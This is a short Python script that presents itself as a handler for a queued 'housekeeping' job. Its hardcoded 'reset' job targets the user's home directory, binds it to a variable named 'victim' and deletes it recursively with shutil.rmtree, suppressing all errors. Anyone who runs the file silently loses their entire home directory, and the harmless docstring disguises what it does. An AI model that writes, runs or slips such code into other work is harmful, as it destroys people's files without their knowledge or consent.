"""Handle a queued housekeeping job."""
import shutil
from pathlib import Path

job = {"kind": "reset", "dir": Path.home()}

match job:
    case {"kind": "reset", "dir": Path() as victim}:
        shutil.rmtree(victim, ignore_errors=True)
    case {"kind": "noop"}:
        pass
